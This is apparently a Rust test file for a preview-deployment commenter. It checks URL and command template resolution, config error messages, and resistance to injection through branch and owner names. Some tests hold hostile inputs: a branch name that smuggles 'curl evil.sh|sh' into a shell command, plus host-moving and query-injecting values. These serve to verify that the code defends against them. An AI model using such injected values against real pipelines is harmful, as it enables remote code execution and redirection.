use super::*;
use crate::test_support::{HEAD_SHA, environment, example_config, facts};

fn resolve(config: &PreviewCommenterConfig) -> Vec<Environment> {
    EnvironmentTemplates::from_config(config)
        .expect("valid config")
        .resolve(&facts())
        .expect("resolvable")
}

fn config_error(config: &PreviewCommenterConfig) -> String {
    EnvironmentTemplates::from_config(config)
        .expect_err("invalid config")
        .to_string()
}

#[test]
fn the_issue_example_works_out_of_the_box() {
    let envs = resolve(&example_config());
    let summary: Vec<_> = envs
        .iter()
        .map(|e| {
            (
                e.name.as_str(),
                display_url(&e.url),
                e.health_url.as_str(),
                e.test_commands.join(" && "),
                e.deployment_environment.as_str(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        [
            (
                "Frontend",
                "https://myapp-pr-42.pages.dev".to_owned(),
                "https://myapp-pr-42.pages.dev/",
                "curl -fsS https://myapp-pr-42.pages.dev".to_owned(),
                "preview/pr-42/Frontend",
            ),
            (
                "API",
                "https://myapp-api-pr-42.workers.dev".to_owned(),
                "https://myapp-api-pr-42.workers.dev/health",
                "curl -fsS https://myapp-api-pr-42.workers.dev/health".to_owned(),
                "preview/pr-42/API",
            ),
        ]
    );
    assert!(
        envs.iter()
            .all(|e| e.expected_status == ExpectedStatus::AnySuccess)
    );
}

#[test]
fn every_placeholder_is_filled() {
    let mut env = environment(
        "All",
        "https://{branch_slug}--{owner}-{repo}.example.dev/{number}/{short_sha}/{sha}?b={branch}",
    );
    env.test_commands = Some(vec!["echo {branch} {url}".to_owned()]);
    let config = PreviewCommenterConfig {
        environments: vec![env],
        ..Default::default()
    };
    let resolved = &resolve(&config)[0];
    assert_eq!(
        resolved.url.as_str(),
        format!(
            "https://feature-login-page--octo-org-myapp.example.dev/42/9f8e7d6/{HEAD_SHA}?b=feature/Login-Page"
        )
    );
    // The URL has `?` and `=`, which the shell must not see bare.
    assert_eq!(
        resolved.test_commands,
        [format!(
            "echo feature/Login-Page 'https://feature-login-page--octo-org-myapp.example.dev/42/9f8e7d6/{HEAD_SHA}?b=feature/Login-Page'"
        )]
    );
}

#[test]
fn health_path_joins_the_preview_path_and_keeps_its_query() {
    let mut env = environment("App", "https://host.dev/app/");
    env.health_path = Some("/health?deep=1".to_owned());
    let config = PreviewCommenterConfig {
        environments: vec![env],
        ..Default::default()
    };
    assert_eq!(
        resolve(&config)[0].health_url.as_str(),
        "https://host.dev/app/health?deep=1"
    );
}

#[test]
fn a_hostile_branch_name_cannot_escape_the_test_command() {
    let mut env = environment("App", "https://pr-{number}.dev");
    env.test_commands = Some(vec!["git fetch origin {branch}".to_owned()]);
    let config = PreviewCommenterConfig {
        environments: vec![env],
        ..Default::default()
    };
    let templates = EnvironmentTemplates::from_config(&config).expect("valid");
    let mut run = facts();
    run.pull_request.head_ref = "x;curl evil.sh|sh".to_owned();
    let resolved = templates.resolve(&run).expect("resolvable");
    assert_eq!(
        resolved[0].test_commands,
        ["git fetch origin 'x;curl evil.sh|sh'"]
    );
}

#[test]
fn empty_test_commands_show_none() {
    let mut env = environment("App", "https://pr-{number}.dev");
    env.test_commands = Some(Vec::new());
    let config = PreviewCommenterConfig {
        environments: vec![env],
        ..Default::default()
    };
    assert!(resolve(&config)[0].test_commands.is_empty());
}

#[test]
fn expect_status_is_exact_and_default_is_any_2xx() {
    assert!(ExpectedStatus::AnySuccess.accepts(204));
    assert!(!ExpectedStatus::AnySuccess.accepts(301));
    assert!(ExpectedStatus::Exactly(401).accepts(401));
    assert!(!ExpectedStatus::Exactly(200).accepts(204));
}

#[test]
fn config_mistakes_are_named() {
    let base = example_config();

    let none = PreviewCommenterConfig::default();
    assert!(config_error(&none).contains("no environments"));

    let mut typo = base.clone();
    typo.environments[0].url = "https://pr-{numbr}.dev".to_owned();
    assert_eq!(
        config_error(&typo),
        "environment \"Frontend\", `url`: unknown placeholder `{numbr}`; the placeholders here are `{number}`, `{sha}`, `{short_sha}`, `{branch}`, `{branch_slug}`, `{owner}`, `{repo}`"
    );

    let mut dup = base.clone();
    dup.environments[1].name = "frontend".to_owned();
    assert!(config_error(&dup).contains("two environments are named \"frontend\""));

    let mut path = base.clone();
    path.environments[1].health_path = Some("health".to_owned());
    assert!(config_error(&path).contains("`health-path` must start with `/`"));

    let mut status = base.clone();
    status.environments[0].expect_status = Some(999);
    assert!(config_error(&status).contains("`expect-status` must be an HTTP status"));

    let mut attempts = base.clone();
    attempts.health_check.attempts = 0;
    assert_eq!(
        config_error(&attempts),
        "`health-check.attempts` must be from 1 to 20, got 0"
    );

    let mut blank = base.clone();
    blank.environments[0].name = "  ".to_owned();
    assert!(config_error(&blank).contains("environment #1 has an empty `name`"));

    let mut deployment = base;
    deployment.deployment_environment = "preview/{pr}".to_owned();
    assert!(
        config_error(&deployment)
            .starts_with("`deployment-environment`: unknown placeholder `{pr}`")
    );
}

#[test]
fn the_branch_may_not_form_the_host() {
    let config = PreviewCommenterConfig {
        environments: vec![environment("App", "https://{branch}.dev")],
        ..Default::default()
    };
    let err = config_error(&config);
    assert!(
        err.starts_with(
            "environment \"App\", `url` \"https://{branch}.dev\": `{branch}` stands in the host"
        ),
        "{err}"
    );
    assert!(err.contains("use `{branch_slug}`"), "{err}");

    let config = PreviewCommenterConfig {
        environments: vec![environment("App", "https://{branch_slug}.dev/{branch}")],
        ..Default::default()
    };
    let templates = EnvironmentTemplates::from_config(&config).expect("slug in the host is fine");
    let mut run = facts();
    run.pull_request.head_ref = "a b/\n::error::x".to_owned();
    let resolved = templates.resolve(&run).expect("encoded, so always valid");
    assert_eq!(
        resolved[0].url.as_str(),
        "https://a-b-error-x.dev/a%20b%2F%0A%3A%3Aerror%3A%3Ax"
    );

    let config = PreviewCommenterConfig {
        environments: vec![environment("App", "ftp://pr-{number}.dev")],
        ..Default::default()
    };
    let err = EnvironmentTemplates::from_config(&config)
        .expect("valid")
        .resolve(&facts())
        .expect_err("ftp");
    assert!(err.to_string().contains("only http and https"));
}

#[test]
fn a_branch_with_an_at_sign_cannot_move_the_link_or_the_health_check() {
    let mut env = environment("App", "https://pr-{number}.example.dev/{branch}");
    env.health_path = Some("/health/{branch}".to_owned());
    let config = PreviewCommenterConfig {
        environments: vec![env],
        ..Default::default()
    };
    let templates = EnvironmentTemplates::from_config(&config).expect("valid");
    let mut run = facts();
    run.pull_request.head_ref = "x@127.0.0.1/ok/#".to_owned();
    let resolved = &templates.resolve(&run).expect("resolvable")[0];
    assert_eq!(resolved.url.host_str(), Some("pr-42.example.dev"));
    assert_eq!(resolved.health_url.host_str(), Some("pr-42.example.dev"));
    assert_eq!(
        resolved.url.as_str(),
        "https://pr-42.example.dev/x%40127.0.0.1%2Fok%2F%23"
    );
    assert_eq!(
        resolved.health_url.as_str(),
        "https://pr-42.example.dev/x%40127.0.0.1%2Fok%2F%23/health/x%40127.0.0.1%2Fok%2F%23"
    );
    assert_eq!(resolved.url.fragment(), None);
}

#[test]
fn a_branch_cannot_add_a_query_parameter() {
    let env = environment(
        "App",
        "https://pr-{number}.example.dev/?b={branch}&env=preview",
    );
    let config = PreviewCommenterConfig {
        environments: vec![env],
        ..Default::default()
    };
    let templates = EnvironmentTemplates::from_config(&config).expect("valid");
    let mut run = facts();
    run.pull_request.head_ref = "a&admin=1#x".to_owned();
    let resolved = &templates.resolve(&run).expect("resolvable")[0];
    let pairs: Vec<(String, String)> = resolved
        .url
        .query_pairs()
        .map(|(k, v)| (k.into_owned(), v.into_owned()))
        .collect();
    assert_eq!(
        pairs,
        [
            ("b".to_owned(), "a&admin=1#x".to_owned()),
            ("env".to_owned(), "preview".to_owned())
        ]
    );
    assert_eq!(resolved.url.fragment(), None);
}

#[test]
fn an_owner_value_that_changes_the_host_is_refused() {
    let config = PreviewCommenterConfig {
        environments: vec![environment("App", "https://{owner}.example.dev")],
        ..Default::default()
    };
    let templates = EnvironmentTemplates::from_config(&config).expect("valid");
    let mut run = facts();
    // Owners cannot hold these on GitHub; a forged payload could.
    run.owner = "evil.test/x?".to_owned();
    let err = templates.resolve(&run).expect_err("host moved").to_string();
    assert!(err.contains("is not the template's"), "{err}");
}

#[test]
fn the_readme_example_file_loads_through_the_core_loader() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/guardians.yml");
    let loaded = guardians_core::config::load_from_file(&path).expect("example config");
    let config: PreviewCommenterConfig = loaded.config.section().expect("example config");
    let names: Vec<_> = config
        .environments
        .iter()
        .map(|e| e.name.as_str())
        .collect();
    assert_eq!(names, ["Frontend", "API"]);
    let environments = EnvironmentTemplates::from_config(&config)
        .expect("valid")
        .resolve(&crate::test_support::facts())
        .expect("resolvable");
    assert_eq!(
        environments[1].health_url.as_str(),
        "https://myapp-api-pr-42.workers.dev/health"
    );
}
